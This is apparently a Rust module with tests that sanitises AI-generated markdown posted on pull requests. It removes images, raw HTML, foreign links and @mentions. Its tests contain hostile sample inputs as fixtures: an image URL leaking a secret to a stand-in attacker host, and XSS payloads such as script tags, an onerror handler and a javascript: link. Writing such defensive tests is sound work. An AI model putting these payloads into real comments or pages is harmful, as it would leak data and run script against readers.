//! Keeps model text harmless on the pull request: no raw HTML, no images (an image URL is how a
//! comment leaks data), no links to hosts other than the PR's own organisation, no @mentions.
//! Code blocks and code spans are left as they are: nothing in them renders.

use std::sync::LazyLock;

use regex::{Captures, Regex};

static INLINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?x)
        !\[(?P<alt>[^\]]*)\]\s*(?:\([^)]*\)|\[[^\]]*\])          # an image, inline or by reference
      | \[(?P<text>[^\]]*)\]\(\s*<?(?P<url>[^)\s>]*)>?(?:\s+(?:"[^"]*"|'[^']*'))?\s*\)   # a link
      | (?P<bare>(?i:https?|ftp|file|javascript|data)://[^\s<>()\[\]`]+|(?i:www)\.[^\s<>()\[\]`]+)
      | (?P<pre>^|[^\w.+\-/&])@(?P<name>[\w][\w.\-]*)
    "#,
    )
    .ok()
});

static REFERENCE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"^\s{0,3}\[[^\]]+\]:\s*<?(\S+?)>?(?:\s.*)?$").ok());

/// `markdown` with raw HTML escaped, images reduced to their alt text, links to hosts other than
/// `allowed_host` reduced to their text, bare foreign URLs shown as code, and @mentions
/// neutralised. `allowed_host` is a host (`dev.azure.com`) or a host with a path prefix
/// (`dev.azure.com/contoso`).
pub fn sanitize(markdown: &str, allowed_host: &str) -> String {
    let mut out = String::with_capacity(markdown.len());
    let mut fence: Option<String> = None;
    for line in markdown.split_inclusive('\n') {
        let body = line.trim_end_matches(['\n', '\r']);
        let ending = &line[body.len()..];
        let trimmed = body.trim_start();
        if let Some(open) = &fence {
            out.push_str(body);
            out.push_str(ending);
            if trimmed.starts_with(open.as_str())
                && trimmed
                    .trim_end()
                    .chars()
                    .all(|c| c == open.chars().next().unwrap_or('`'))
            {
                fence = None;
            }
            continue;
        }
        let run: String = trimmed
            .chars()
            .take_while(|c| *c == '`' || *c == '~')
            .collect();
        if run.len() >= 3 && run.chars().all(|c| c == run.chars().next().unwrap_or('`')) {
            fence = Some(run);
            out.push_str(body);
            out.push_str(ending);
            continue;
        }
        if let Some(reference) = REFERENCE.as_ref().and_then(|r| r.captures(body)) {
            if !allowed(&reference[1], allowed_host) {
                continue;
            }
        }
        out.push_str(&outside_code_spans(body, allowed_host));
        out.push_str(ending);
    }
    if fence.is_some() {
        // An unclosed fence would swallow what follows it on the page.
        if !out.ends_with('\n') {
            out.push('\n');
        }
        out.push_str(fence.as_deref().unwrap_or("```"));
        out.push('\n');
    }
    out
}

/// Cleans the parts of a line outside `code spans`.
fn outside_code_spans(line: &str, allowed_host: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(start) = rest.find('`') {
        let ticks = rest[start..].chars().take_while(|c| *c == '`').count();
        let after = &rest[start + ticks..];
        let closing = "`".repeat(ticks);
        match after.find(&closing) {
            Some(end) if !after[end + ticks..].starts_with('`') => {
                out.push_str(&clean(&rest[..start], allowed_host));
                out.push_str(&rest[start..start + ticks + end + ticks]);
                rest = &after[end + ticks..];
            }
            _ => {
                // No matching close: the backticks are literal.
                out.push_str(&clean(&rest[..start + ticks], allowed_host));
                rest = after;
            }
        }
    }
    out.push_str(&clean(rest, allowed_host));
    out
}

fn clean(text: &str, allowed_host: &str) -> String {
    let escaped = text.replace('<', "&lt;");
    let Some(inline) = INLINE.as_ref() else {
        return escaped.replace('@', "@\u{200b}");
    };
    inline
        .replace_all(&escaped, |c: &Captures<'_>| {
            if let Some(alt) = c.name("alt") {
                return alt.as_str().to_owned();
            }
            if let Some(text) = c.name("text") {
                let url = c.name("url").map(|u| u.as_str()).unwrap_or_default();
                return if allowed(url, allowed_host) {
                    c[0].to_owned()
                } else {
                    text.as_str().to_owned()
                };
            }
            if let Some(bare) = c.name("bare") {
                return if allowed(bare.as_str(), allowed_host) {
                    bare.as_str().to_owned()
                } else {
                    format!("`{}`", bare.as_str().replace('`', ""))
                };
            }
            let pre = c.name("pre").map(|p| p.as_str()).unwrap_or_default();
            let name = c.name("name").map(|n| n.as_str()).unwrap_or_default();
            format!("{pre}`@{name}`")
        })
        .into_owned()
}

/// Whether `url` points at the allowed host (relative links stay on the page's own host).
fn allowed(url: &str, allowed_host: &str) -> bool {
    let url = url.trim();
    if url.starts_with('#') || (url.starts_with('/') && !url.starts_with("//")) {
        return true;
    }
    let absolute = if url.starts_with("//") {
        format!("https:{url}")
    } else {
        url.to_owned()
    };
    let Ok(parsed) = url::Url::parse(&absolute) else {
        return false;
    };
    if parsed.scheme() != "https" || !parsed.username().is_empty() || parsed.password().is_some() {
        return false;
    }
    let Some(host) = parsed.host_str() else {
        return false;
    };
    let allowed_host = allowed_host
        .trim()
        .trim_start_matches("https://")
        .trim_end_matches('/');
    if allowed_host.is_empty() {
        return false;
    }
    let (want_host, want_path) = match allowed_host.split_once('/') {
        Some((h, p)) => (h, Some(p)),
        None => (allowed_host, None),
    };
    if !host.eq_ignore_ascii_case(want_host) {
        return false;
    }
    match want_path {
        None => true,
        Some(prefix) => {
            let path = parsed.path().trim_start_matches('/');
            path.eq_ignore_ascii_case(prefix)
                || path
                    .to_ascii_lowercase()
                    .starts_with(&format!("{}/", prefix.to_ascii_lowercase()))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOST: &str = "dev.azure.com/contoso";

    #[test]
    fn images_html_foreign_links_and_mentions_are_neutralised() {
        let hostile = "Fixed! ![pixel](https://evil.example/leak?d=SECRET) <img src=x onerror=alert(1)> \
see [docs](https://evil.example/phish) and [the PR](https://dev.azure.com/contoso/p/_git/r/pullrequest/1) \
cc @alice and <@7C1A-GUID> https://evil.example/x <script>alert(1)</script>";
        let clean = sanitize(hostile, HOST);
        assert!(!clean.contains("evil.example/leak"), "{clean}");
        assert!(!clean.contains("!["), "{clean}");
        assert!(!clean.contains("<img"), "{clean}");
        assert!(!clean.contains("<script"), "{clean}");
        assert!(!clean.contains("](https://evil.example"), "{clean}");
        assert!(clean.contains("docs"), "{clean}");
        assert!(
            clean.contains("[the PR](https://dev.azure.com/contoso/p/_git/r/pullrequest/1)"),
            "{clean}"
        );
        assert!(clean.contains("`@alice`"), "{clean}");
        assert!(!clean.contains("<@"), "{clean}");
        assert!(clean.contains("`https://evil.example/x`"), "{clean}");
        assert!(clean.contains("pixel"));
    }

    #[test]
    fn other_organisations_on_the_same_host_are_foreign() {
        let clean = sanitize("[x](https://dev.azure.com/fabrikam/p)", HOST);
        assert_eq!(clean, "x");
        assert_eq!(sanitize("[x](//evil.example/a)", HOST), "x");
        assert_eq!(sanitize("[x](javascript:alert(1))", HOST), "x)");
        assert_eq!(
            sanitize("[x](https://user:pw@dev.azure.com/contoso)", HOST),
            "x"
        );
    }

    #[test]
    fn reference_images_and_definitions_are_removed() {
        let clean = sanitize(
            "look ![a][img]\n[img]: https://evil.example/p.png\nend\n",
            HOST,
        );
        assert_eq!(clean, "look a\nend\n");
    }

    #[test]
    fn code_is_left_alone_and_fences_are_closed() {
        let text = "Use `Vec<u8>` here:\n```rust\nlet x: Vec<u8> = vec![]; // @me\n```\nok";
        assert_eq!(sanitize(text, HOST), text);
        let open = sanitize("```\n<img src=x>", HOST);
        assert!(open.ends_with("```\n"), "{open}");
    }

    #[test]
    fn emails_are_not_mentions() {
        assert_eq!(
            sanitize("mail a.b@example.com", HOST),
            "mail a.b@example.com"
        );
    }
}
